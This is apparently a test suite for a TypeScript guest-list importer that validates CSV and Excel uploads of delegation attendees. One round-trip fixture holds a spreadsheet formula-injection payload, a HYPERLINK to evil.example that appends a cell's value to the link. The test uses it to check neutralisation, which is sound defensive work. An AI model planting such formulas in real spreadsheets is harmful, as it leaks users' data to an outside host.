import ExcelJS from 'exceljs';
import { type Column, writeCsv, writeXlsx } from '#core/exports/write-table.js';
import { type GuestRow as ParsedRow, MAX_GUEST_ROWS, parseGuestList as parseWithRows } from './parse-guest-list.js';

/** The fixtures below describe guests; where each sat in the file (sourceRow) and how many rows were read (rowsRead) are checked on their own. */
type GuestRow = Omit<ParsedRow, 'sourceRow'>;

async function parseGuestList(...args: Parameters<typeof parseWithRows>) {
  const { rowsRead: _rowsRead, ...parsed } = await parseWithRows(...args);
  return { ...parsed, rows: parsed.rows.map(({ sourceRow: _sourceRow, ...guest }) => guest) };
}

const HEADER = ['email', 'name_native', 'name_latin', 'country', 'organisation', 'position', 'category', 'language', 'phone', 'delegation'];

const AIGERIM: GuestRow = {
  email: 'aigerim.saparova@mfa.kz',
  nameNative: 'Айгерим Сапарова',
  nameLatin: 'Aigerim Saparova',
  country: 'KZ',
  organisation: 'Министерство иностранных дел Республики Казахстан',
  organisationType: null,
  position: 'Советник',
  category: 'official',
  preferredLanguage: 'ru',
  phone: '+7 701 234 56 78',
  delegation: 'Казахстан',
};
const AZIZ: GuestRow = {
  email: 'aziz.karimov@chamber.uz',
  nameNative: 'Азиз Каримов',
  nameLatin: 'Aziz Karimov',
  country: 'UZ',
  organisation: 'Торгово-промышленная палата Узбекистана',
  organisationType: null,
  position: 'Заместитель председателя',
  category: 'business',
  preferredLanguage: 'ru',
  phone: null,
  delegation: 'Узбекистан',
};
const WANG: GuestRow = {
  email: 'wang.fang@qingdao.gov.cn',
  nameNative: '王芳',
  nameLatin: 'Wang Fang',
  country: 'CN',
  organisation: '青岛市商务局',
  organisationType: null,
  position: '副局长',
  category: 'official',
  preferredLanguage: 'zh',
  phone: '+86 532 8591 2345',
  delegation: '中国',
};
const BAKYT: GuestRow = {
  email: 'b.osmonov@kabar.kg',
  nameNative: 'Бакыт Осмонов',
  nameLatin: 'Bakyt Osmonov',
  country: 'KG',
  organisation: 'Кабар',
  organisationType: null,
  position: 'Корреспондент',
  category: 'media',
  preferredLanguage: 'en',
  phone: null,
  delegation: null,
};
const IVAN: GuestRow = {
  email: 'i.petrov@sectsco.org',
  nameNative: 'Иван Петров',
  nameLatin: 'Ivan Petrov',
  country: 'RU',
  organisation: 'Секретариат ШОС',
  organisationType: null,
  position: 'Эксперт',
  category: 'international_organisation',
  preferredLanguage: 'ru',
  phone: '+7 (495) 123-45-67',
  delegation: null,
};
const SARDOR: GuestRow = {
  email: 'sardor.tursunov@gmail.com',
  nameNative: 'Sardor Tursunov',
  nameLatin: 'Sardor Tursunov',
  country: 'UZ',
  organisation: null,
  organisationType: null,
  position: null,
  category: 'guest',
  preferredLanguage: 'en',
  phone: null,
  delegation: null,
};
const GUESTS = [AIGERIM, AZIZ, WANG, BAKYT, IVAN, SARDOR];

/** A guest as the cells of a file with the HEADER columns (empty language, as Bakyt's, means the default 'en'). */
function cells(guest: GuestRow, language: string = guest.preferredLanguage): string[] {
  return [
    guest.email,
    guest.nameNative,
    guest.nameLatin,
    guest.country,
    guest.organisation ?? '',
    guest.position ?? '',
    guest.category,
    language,
    guest.phone ?? '',
    guest.delegation ?? '',
  ];
}
const guestCells = (guest: GuestRow) => cells(guest, guest === BAKYT ? '' : guest.preferredLanguage);

function csvText(records: string[][], separator = ','): string {
  const field = (value: string) =>
    value.includes(separator) || /["\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
  return records.map((record) => record.map(field).join(separator)).join('\r\n') + '\r\n';
}
const csv = (records: string[][], separator = ',') => Buffer.from(csvText(records, separator), 'utf8');

async function xlsx(rows: ExcelJS.CellValue[][]): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Участники');
  rows.forEach((row, index) => {
    sheet.getRow(index + 1).values = row;
  });
  workbook.addWorksheet('Notes').getCell('A1').value = 'not read';
  return Buffer.from((await workbook.xlsx.writeBuffer()) as ArrayBuffer);
}

/** A valid row with some fields replaced. */
function row(changes: Partial<Record<(typeof HEADER)[number], string>>, base: GuestRow = SARDOR): string[] {
  const values = cells(base);
  for (const [column, value] of Object.entries(changes)) {
    if (value !== undefined) values[HEADER.indexOf(column)] = value;
  }
  return values;
}

describe(parseGuestList.name, () => {
  describe('valid files', () => {
    it('reads a valid CSV file exactly', async () => {
      const result = await parseGuestList(csv([HEADER, ...GUESTS.map(guestCells)]), 'csv');
      expect(result).toEqual({ rows: GUESTS, errors: [] });
    });

    it('reads a valid XLSX file exactly: first worksheet, hyperlink, rich-text, number and formula cells', async () => {
      const content = await xlsx([
        ['E-mail', 'Native Name', 'Latin Name', 'Country', 'Organization', 'Position', 'Category', 'Preferred Language', 'Phone', 'Delegation'],
        [
          { text: 'Aigerim.Saparova@MFA.kz', hyperlink: 'mailto:Aigerim.Saparova@MFA.kz' },
          ...cells(AIGERIM).slice(1),
        ],
        [
          AZIZ.email,
          AZIZ.nameNative,
          AZIZ.nameLatin,
          AZIZ.country,
          { richText: [{ text: 'Торгово-промышленная палата ', font: { bold: true } }, { text: 'Узбекистана' }] },
          ...cells(AZIZ).slice(5, 9),
          { formula: '"Узбекистан"', result: 'Узбекистан' },
        ],
        [],
        [...cells(WANG).slice(0, 8), 865328591, '中国'],
        [
          // A hyperlink whose shown text is itself rich text.
          { text: { richText: [{ text: 'b.osmonov@kabar.kg' }] }, hyperlink: 'mailto:b.osmonov@kabar.kg' } as unknown as ExcelJS.CellHyperlinkValue,
          ...guestCells(BAKYT).slice(1),
        ],
        cells(IVAN),
        cells(SARDOR),
      ]);
      const result = await parseGuestList(content, 'xlsx');
      expect(result.errors).toEqual([]);
      expect(result.rows).toEqual([AIGERIM, AZIZ, { ...WANG, phone: '865328591' }, BAKYT, IVAN, SARDOR]);
    });

    it('reads a semicolon-separated CSV (Excel in Russian locales) with quoted fields', async () => {
      const organisation = 'ТОО "Шёлковый путь"; Алматы, офис 5';
      const content = csv([HEADER, ...[{ ...AIGERIM, organisation }, IVAN].map(guestCells)], ';');
      expect(content.toString('utf8')).toContain('"ТОО ""Шёлковый путь""; Алматы, офис 5"');
      const result = await parseGuestList(content, 'csv');
      expect(result).toEqual({ rows: [{ ...AIGERIM, organisation }, IVAN], errors: [] });
    });

    it('reads UTF-8 with or without a byte-order mark alike', async () => {
      const plain = csv([HEADER, ...GUESTS.map(guestCells)]);
      const withBom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), plain]);
      expect(await parseGuestList(withBom, 'csv')).toEqual({ rows: GUESTS, errors: [] });
      expect(await parseGuestList(withBom, 'csv')).toEqual(await parseGuestList(plain, 'csv'));
      const semicolons = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), csv([HEADER, cells(WANG)], ';')]);
      expect(await parseGuestList(semicolons, 'csv')).toEqual({ rows: [WANG], errors: [] });
    });

    it('matches header names case-insensitively, ignoring spaces, underscores and hyphens, and takes the aliases', async () => {
      const content = csv([
        ['E-Mail', 'NAME', 'Latin_Name', ' country ', 'category', 'preferred-language', 'Organization'],
        ['ivan.petrov@example.ru', 'Иван Петров', 'Ivan Petrov', 'RU', 'official', 'ru', 'Минэкономразвития России'],
      ]);
      expect(await parseGuestList(content, 'csv')).toEqual({
        rows: [
          {
            email: 'ivan.petrov@example.ru',
            nameNative: 'Иван Петров',
            nameLatin: 'Ivan Petrov',
            country: 'RU',
            organisation: 'Минэкономразвития России',
            organisationType: null,
            position: null,
            category: 'official',
            preferredLanguage: 'ru',
            phone: null,
            delegation: null,
          },
        ],
        errors: [],
      });
    });

    it('normalises values: trims, lower-cases the email, upper-cases the country, reads labels and language names', async () => {
      const content = csv([
        HEADER,
        ['  Ivan.PETROV@SectSCO.org ', ' Иван   Петров ', 'Ivan  Petrov', 'ru', '', '', 'International organisation', 'Русский', '', ''],
        ['wang.fang@example.cn', '王芳', 'Wang Fang', 'cn', '', '', '官方代表', 'zh-CN', '', ''],
        ['b.osmonov@example.kg', 'Бакыт Осмонов', 'Bakyt Osmonov', 'KG', '', '', 'СМИ', 'EN', '', ''],
        ['sardor@example.uz', 'Sardor Tursunov', 'Sardor Tursunov', 'UZ', '', '', 'Guest', '', '', ''],
      ]);
      const result = await parseGuestList(content, 'csv');
      expect(result.errors).toEqual([]);
      expect(result.rows.map((guest) => [guest.email, guest.nameNative, guest.nameLatin, guest.country, guest.category, guest.preferredLanguage])).toEqual([
        ['ivan.petrov@sectsco.org', 'Иван Петров', 'Ivan Petrov', 'RU', 'international_organisation', 'ru'],
        ['wang.fang@example.cn', '王芳', 'Wang Fang', 'CN', 'official', 'zh'],
        ['b.osmonov@example.kg', 'Бакыт Осмонов', 'Bakyt Osmonov', 'KG', 'media', 'en'],
        ['sardor@example.uz', 'Sardor Tursunov', 'Sardor Tursunov', 'UZ', 'guest', 'en'],
      ]);
    });

    it('accepts Latin names with diacritics and the Uzbek okina', async () => {
      const content = csv([HEADER, row({ name_latin: 'Oʻktam Gʻulomov' }), row({ email: 'a@b.kz', name_latin: 'Ayşe Müller-Łukasz' })]);
      const result = await parseGuestList(content, 'csv');
      expect(result.errors).toEqual([]);
      expect(result.rows.map((guest) => guest.nameLatin)).toEqual(['Oʻktam Gʻulomov', 'Ayşe Müller-Łukasz']);
    });

    it('skips blank lines and keeps row numbers as they are in the file', async () => {
      const text = `${HEADER.join(',')}\r\n\r\n${cells(AIGERIM).join(',')}\r\n,,,,,,,,,\r\n   \r\n${row({ country: 'XX' }).join(',')}\r\n${cells(IVAN).join(',')}\r\n\r\n`;
      const result = await parseGuestList(Buffer.from(text, 'utf8'), 'csv');
      expect(result.rows).toEqual([AIGERIM, IVAN]);
      expect(result.errors).toEqual([{ row: 6, field: 'country', code: 'invalid_country', reason: 'country must be an ISO 3166 alpha-2 code such as KZ' }]);
    });

    it('counts the lines of a quoted multi-line field, reporting the line on which a record starts', async () => {
      const text = `${HEADER.join(',')}\n${cells(WANG).slice(0, 5).join(',')},"Senior\nadviser",${cells(WANG).slice(6).join(',')}\n${row({ email: 'bad' }).join(',')}\n`;
      const result = await parseGuestList(Buffer.from(text, 'utf8'), 'csv');
      expect(result.rows).toEqual([{ ...WANG, position: 'Senior adviser' }]);
      expect(result.errors).toEqual([{ row: 4, field: 'email', code: 'invalid_email', reason: 'email is not a valid email address' }]);
    });

    it('gives an empty list, without errors, for a file with only the header', async () => {
      expect(await parseGuestList(csv([HEADER]), 'csv')).toEqual({ rows: [], errors: [] });
    });

    it(`accepts exactly ${MAX_GUEST_ROWS} guest rows`, async () => {
      const many = Array.from({ length: MAX_GUEST_ROWS }, (_, i) => row({ email: `guest${i}@example.kz` }));
      const result = await parseGuestList(csv([HEADER, ...many]), 'csv');
      expect(result.errors).toEqual([]);
      expect(result.rows).toHaveLength(MAX_GUEST_ROWS);
    });
  });

  describe('bad rows', () => {
    it('reports each bad field of each bad row with its row number and field, and leaves those rows out', async () => {
      const content = csv([
        HEADER,
        cells(AIGERIM), // 2: fine
        row({ email: 'aziz.karimov(at)chamber.uz' }), // 3
        row({ email: '' }), // 4
        row({ email: 'n1@example.kz', name_native: '   ' }), // 5
        row({ email: 'n2@example.kz', name_latin: 'Азиз Каримов' }), // 6
        row({ email: 'n3@example.kz', name_latin: '' }), // 7
        row({ email: 'c1@example.kz', country: 'KAZ' }), // 8
        row({ email: 'c2@example.kz', country: 'XX' }), // 9
        row({ email: 'c3@example.kz', country: '' }), // 10
        row({ email: 'k1@example.kz', category: 'vip' }), // 11
        row({ email: 'k2@example.kz', category: '' }), // 12
        row({ email: 'l1@example.kz', language: 'de' }), // 13
        row({ email: 'p1@example.kz', phone: 'call the embassy' }), // 14
        row({ email: 'p2@example.kz', phone: '123' }), // 15
        row({ email: 't1@example.kz', position: 'Adviser\u0000' }), // 16
        row({ email: 't2@example.kz', organisation: 'Ministry\u0007of Trade' }), // 17
        row({ email: 't3@example.kz', delegation: 'Д'.repeat(301) }), // 18
        row({ email: 't4@example.kz', delegation: 'Д'.repeat(300) }), // 19: fine
        row({ email: 'x@y', name_native: '', country: 'Kazakhstan', language: 'kz' }), // 20: four bad fields
        cells(IVAN), // 21: fine
      ]);
      const result = await parseGuestList(content, 'csv');
      expect(result.errors).toEqual([
        { row: 3, field: 'email', code: 'invalid_email', reason: 'email is not a valid email address' },
        { row: 4, field: 'email', code: 'required', reason: 'email is required' },
        { row: 5, field: 'name_native', code: 'required', reason: 'name_native is required' },
        { row: 6, field: 'name_latin', code: 'not_latin', reason: 'name_latin must be written in Latin letters' },
        { row: 7, field: 'name_latin', code: 'required', reason: 'name_latin is required' },
        { row: 8, field: 'country', code: 'invalid_country', reason: 'country must be an ISO 3166 alpha-2 code such as KZ' },
        { row: 9, field: 'country', code: 'invalid_country', reason: 'country must be an ISO 3166 alpha-2 code such as KZ' },
        { row: 10, field: 'country', code: 'required', reason: 'country is required' },
        { row: 11, field: 'category', code: 'invalid_category', reason: 'category must be one of official, business, international_organisation, media, guest' },
        { row: 12, field: 'category', code: 'required', reason: 'category is required' },
        { row: 13, field: 'language', code: 'invalid_language', reason: 'language must be zh, en or ru' },
        { row: 14, field: 'phone', code: 'invalid_phone', reason: expect.stringMatching(/^phone must be a telephone number/) },
        { row: 15, field: 'phone', code: 'invalid_phone', reason: expect.stringMatching(/^phone must be a telephone number/) },
        { row: 16, field: 'position', code: 'control_character', reason: 'position contains a control character (U+0000), which is not allowed' },
        { row: 17, field: 'organisation', code: 'control_character', reason: 'organisation contains a control character (U+0007), which is not allowed' },
        { row: 18, field: 'delegation', code: 'too_long', reason: 'delegation is longer than 300 characters' },
        { row: 20, field: 'email', code: 'invalid_email', reason: 'email is not a valid email address' },
        { row: 20, field: 'name_native', code: 'required', reason: 'name_native is required' },
        { row: 20, field: 'country', code: 'invalid_country', reason: 'country must be an ISO 3166 alpha-2 code such as KZ' },
        { row: 20, field: 'language', code: 'invalid_language', reason: 'language must be zh, en or ru' },
      ]);
      expect(result.rows.map((guest) => guest.email)).toEqual([AIGERIM.email, 't4@example.kz', IVAN.email]);
    });

    it('reports an email that repeats an earlier row, whatever its case, naming the earlier row', async () => {
      const content = csv([
        HEADER,
        cells(IVAN),
        cells(AIGERIM),
        cells({ ...IVAN, email: 'I.Petrov@SECTSCO.org', nameNative: 'Иван Петров (2)' }),
        cells(IVAN),
      ]);
      const result = await parseGuestList(content, 'csv');
      expect(result.rows).toEqual([IVAN, AIGERIM]);
      expect(result.errors).toEqual([
        { row: 4, field: 'email', code: 'duplicate_email', reason: 'email i.petrov@sectsco.org already appears in row 2' },
        { row: 5, field: 'email', code: 'duplicate_email', reason: 'email i.petrov@sectsco.org already appears in row 2' },
      ]);
    });

    it('reports a spreadsheet error value in an XLSX cell', async () => {
      const content = await xlsx([HEADER, [...cells(AZIZ).slice(0, 8), { error: '#N/A' } as ExcelJS.CellErrorValue, '']]);
      const result = await parseGuestList(content, 'xlsx');
      expect(result).toEqual({ rows: [], errors: [{ row: 2, field: 'phone', code: 'spreadsheet_error', reason: 'phone contains the spreadsheet error #N/A' }] });
    });

    it('reports bad XLSX rows with their sheet row numbers, skipping empty rows', async () => {
      const content = await xlsx([HEADER, [], cells(BAKYT), [], [], row({ category: 'journalist' })]);
      const result = await parseGuestList(content, 'xlsx');
      expect(result.rows).toEqual([BAKYT]);
      expect(result.errors).toEqual([
        { row: 6, field: 'category', code: 'invalid_category', reason: 'category must be one of official, business, international_organisation, media, guest' },
      ]);
    });
  });

  describe('bad header', () => {
    it('reports unknown columns once, at row 1, naming them, and reads no rows', async () => {
      const content = csv([[...HEADER, 'Passport number', 'Hotel'], [...cells(AIGERIM), 'N1234567', 'Shangri-La']]);
      expect(await parseGuestList(content, 'csv')).toEqual({
        rows: [],
        errors: [
          {
            row: 1,
            field: null,
            code: 'unknown_columns', reason: expect.stringMatching(/^unknown columns "Passport number", "Hotel"; the accepted columns are email, name_native/),
          },
        ],
      });
    });

    it('reports each missing required column', async () => {
      const content = csv([['email', 'name', 'organisation'], ['wang.fang@example.cn', '王芳', '青岛市商务局']]);
      expect(await parseGuestList(content, 'csv')).toEqual({
        rows: [],
        errors: [
          { row: 1, field: 'name_latin', code: 'missing_column', reason: 'required column name_latin is missing' },
          { row: 1, field: 'country', code: 'missing_column', reason: 'required column country is missing' },
          { row: 1, field: 'category', code: 'missing_column', reason: 'required column category is missing' },
        ],
      });
    });

    it('reports a column given twice, under its name and an alias', async () => {
      const content = csv([[...HEADER, 'Name'], [...cells(WANG), '王芳']]);
      expect(await parseGuestList(content, 'csv')).toEqual({
        rows: [],
        errors: [{ row: 1, field: 'name_native', code: 'duplicate_column', reason: 'column name_native appears more than once ("name_native", "Name")' }],
      });
    });

    it('reports values in a column without a header, and ignores empty unnamed columns', async () => {
      const withValues = csv([[...HEADER, ''], [...cells(WANG), 'stray']]);
      expect(await parseGuestList(withValues, 'csv')).toEqual({
        rows: [],
        errors: [{ row: 1, field: null, code: 'unnamed_columns', reason: 'column 11 has values but no header' }],
      });
      const empty = csv([[...HEADER, '', ''], [...cells(WANG), '', '']]);
      expect(await parseGuestList(empty, 'csv')).toEqual({ rows: [WANG], errors: [] });
    });
  });

  describe('bad files', () => {
    it(`reports more than ${MAX_GUEST_ROWS} guest rows as one error`, async () => {
      const many = Array.from({ length: MAX_GUEST_ROWS + 1 }, (_, i) => row({ email: i === 7 ? 'bad' : `guest${i}@example.kz` }));
      expect(await parseGuestList(csv([HEADER, ...many]), 'csv')).toEqual({
        rows: [],
        errors: [{ row: 0, field: null, code: 'too_many_rows', reason: expect.stringContaining(`has ${MAX_GUEST_ROWS + 1} guest rows; at most ${MAX_GUEST_ROWS}`) }],
      });
    });

    it.each<[string, Buffer, 'csv' | 'xlsx', RegExp]>([
      ['an empty CSV file', Buffer.alloc(0), 'csv', /empty/],
      ['an empty XLSX file', Buffer.alloc(0), 'xlsx', /empty/],
      ['a CSV file of blank lines', Buffer.from('\r\n \r\n;;\r\n'), 'csv', /empty/],
      ['a CSV file with an unclosed quote', Buffer.from(`${HEADER.join(',')}\n"Иван Петров,RU\n`), 'csv', /could not be read as CSV/],
      ['a CSV file with a stray quote', Buffer.from(`${HEADER.join(',')}\nИван "Ваня" Петров,RU\n`), 'csv', /could not be read as CSV/],
      ['a CSV file in Windows-1251', Buffer.from([0x65, 0x6d, 0x61, 0x69, 0x6c, 0x0a, 0xc8, 0xe2, 0xe0, 0xed]), 'csv', /not UTF-8/],
      ['a CSV file in UTF-16', Buffer.from('\uFEFFemail\n', 'utf16le'), 'csv', /not UTF-8/],
      ['an XLSX workbook sent as CSV', Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00]), 'csv', /Excel workbook, not CSV/],
      ['an old .xls workbook', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0x00]), 'xlsx', /old Excel \.xls/],
      ['random bytes as XLSX', Buffer.from('this is not a workbook at all'), 'xlsx', /could not be read as an Excel workbook/],
      ['a truncated XLSX workbook', Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00]), 'xlsx', /could not be read as an Excel workbook/],
    ])('returns a single row-0 error for %s', async (_name, content, format, reason) => {
      const result = await parseGuestList(content, format);
      expect(result).toEqual({ rows: [], errors: [{ row: 0, field: null, code: expect.stringMatching(/^file_/), reason: expect.stringMatching(reason) }] });
    });

    it('returns a single row-0 error for an XLSX workbook whose first sheet is empty', async () => {
      const result = await parseGuestList(await xlsx([]), 'xlsx');
      expect(result).toEqual({ rows: [], errors: [{ row: 0, field: null, code: 'file_empty', reason: 'the file is empty' }] });
    });
  });

  describe('round trips with the export writers', () => {
    const columns: Column<GuestRow>[] = [
      { header: 'email', value: (guest) => guest.email },
      { header: 'name_native', value: (guest) => guest.nameNative },
      { header: 'name_latin', value: (guest) => guest.nameLatin },
      { header: 'country', value: (guest) => guest.country },
      { header: 'organisation', value: (guest) => guest.organisation },
      { header: 'organisation_type', value: (guest) => guest.organisationType },
      { header: 'position', value: (guest) => guest.position },
      { header: 'category', value: (guest) => guest.category },
      { header: 'language', value: (guest) => guest.preferredLanguage },
      { header: 'phone', value: (guest) => guest.phone },
      { header: 'delegation', value: (guest) => guest.delegation },
    ];
    // Texts that the CSV writer neutralises with an apostrophe, which the import must take off again.
    const tricky: GuestRow[] = [
      ...GUESTS,
      {
        ...SARDOR,
        email: 'hacker@example.uz',
        organisation: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        organisationType: 'enterprise',
        position: '-',
        delegation: '@delegation',
        phone: '+998 71 123 45 67',
      },
    ];

    it('reads back what writeXlsx wrote', async () => {
      const content = await writeXlsx(columns, tricky, 'Guests');
      expect(await parseGuestList(content, 'xlsx')).toEqual({ rows: tricky, errors: [] });
    });

    it('reads back what writeCsv wrote', async () => {
      const content = writeCsv(columns, tricky);
      expect(content.toString('utf8')).toContain(`'=HYPERLINK`);
      expect(await parseGuestList(content, 'csv')).toEqual({ rows: tricky, errors: [] });
    });
  });
});

describe('parseGuestList source rows', () => {
  it('tells where each valid guest sat in the file, skipping bad and blank rows', async () => {
    const file = Buffer.from(
      [HEADER.join(','), row({ email: 'bad-email' }).join(','), '', row({ email: 'fine@example.uz' }).join(',')].join('\n'),
    );
    const parsed = await parseWithRows(file, 'csv');
    expect(parsed.rows.map((guest) => [guest.email, guest.sourceRow])).toEqual([['fine@example.uz', 4]]);
  });
});

describe('parseGuestList organisation types and rows read', () => {
  const header = ['email', 'name_native', 'name_latin', 'country', 'category', 'organisation', 'Organization Type'];

  it('reads organisation_type (codes, any case, with spaces or hyphens) and leaves it null when empty', async () => {
    const parsed = await parseWithRows(
      csv([
        header,
        ['a@example.kz', 'Айгерим', 'Aigerim', 'KZ', 'official', 'Минторговли', 'Government Body'],
        ['b@example.kz', 'Бакыт', 'Bakyt', 'KG', 'business', 'Кабар', 'industrial-park'],
        ['c@example.kz', 'Сардор', 'Sardor', 'UZ', 'guest', 'Uzbek Railways', ''],
      ]),
      'csv',
    );
    expect(parsed.errors).toEqual([]);
    expect(parsed.rows.map((guest) => guest.organisationType)).toEqual(['government_body', 'industrial_park', null]);
  });

  it('refuses an unknown organisation_type, and one given without an organisation', async () => {
    const parsed = await parseWithRows(
      csv([header, ['a@example.kz', 'Айгерим', 'Aigerim', 'KZ', 'official', 'Минторговли', 'ministry'], ['b@example.kz', 'Бакыт', 'Bakyt', 'KG', 'media', '', 'media']]),
      'csv',
    );
    expect(parsed.errors).toEqual([
      { row: 2, field: 'organisation_type', code: 'invalid_organisation_type', reason: expect.stringMatching(/^organisation_type must be one of government_body, business_association, enterprise/) },
      { row: 3, field: 'organisation_type', code: 'type_without_organisation', reason: 'organisation_type is given without an organisation' },
    ]);
  });

  it('counts every guest row read, valid or not, blank lines and the header aside', async () => {
    const file = Buffer.from([HEADER.join(','), row({ email: 'bad-email' }).join(','), '', row({ email: 'fine@example.uz' }).join(','), ''].join('\n'));
    expect(await parseWithRows(file, 'csv')).toMatchObject({ rowsRead: 2, rows: [{ email: 'fine@example.uz' }] });
    // Under a bad header no row is validated, but each is still counted.
    const badHeader = Buffer.from([[...HEADER, 'hotel'].join(','), [...row({}), 'x'].join(','), [...row({ email: 'b@example.uz' }), 'y'].join(',')].join('\n'));
    expect(await parseWithRows(badHeader, 'csv')).toMatchObject({ rowsRead: 2, rows: [] });
    expect((await parseWithRows(Buffer.from('not,a\n"broken'), 'csv')).rowsRead).toBe(0);
  });
});
